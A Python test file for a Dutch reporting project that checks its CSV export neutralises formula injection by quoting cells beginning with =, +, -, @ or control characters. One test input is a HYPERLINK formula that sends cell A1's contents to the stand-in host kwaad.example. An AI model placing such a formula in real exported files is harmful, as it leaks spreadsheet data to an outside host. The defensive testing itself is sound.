"""CSV files the project writes are safe to open in a spreadsheet (issue #14, 16: formula injection)."""

from __future__ import annotations

import io
import re
from pathlib import Path

import pandas as pd
from rapportage.csvfiles import csv_bytes

REPO = Path(__file__).resolve().parents[1]


def test_formula_cells_become_text_and_numbers_stay_numbers():
    frame = pd.DataFrame({
        "opmerking": ['=HYPERLINK("https://kwaad.example/?"&A1,"klik")', "+31 6 1234", "-- niets", "@SUM(A1)",
                      "\tverborgen", "\rterug", "twee\r\nregels", None],
        "code": pd.array(["=1+1", "a", "b", "c", "d", "e", "f", pd.NA], dtype="string"),
        "waarde": [-1, 2, -3.5, 4, 5, 6, 7, 8],
        "=kop": [1] * 8,
    })
    back = pd.read_csv(io.BytesIO(csv_bytes(frame)), dtype=str, keep_default_na=False)
    assert list(back.columns) == ["opmerking", "code", "waarde", "'=kop"]
    assert back.opmerking.tolist() == ["'" + v if v else "" for v in
                                       ['=HYPERLINK("https://kwaad.example/?"&A1,"klik")', "+31 6 1234", "-- niets",
                                        "@SUM(A1)", "\tverborgen", "\rterug"]] + ["twee\r\nregels", ""]
    assert back.code.tolist()[:2] == ["'=1+1", "a"] and back.waarde.tolist()[:3] == ["-1.0", "2.0", "-3.5"]
    assert not any(re.match(r"[=+\-@\t\r]", cell) for col in ("opmerking", "code") for cell in back[col])


def test_every_csv_the_pipeline_writes_goes_through_csv_bytes():
    writers = [f"{p.name}:{n}" for p in sorted((REPO / "analysis").rglob("*.py"))
               for n, line in enumerate(p.read_text(encoding="utf-8").splitlines(), 1) if ".to_csv(" in line]
    # csvfiles itself; synthetic.py writes the synthetic registry frame, an input like a real frame.csv
    assert [w for w in writers if not w.startswith(("csvfiles.py:", "synthetic.py:"))] == []
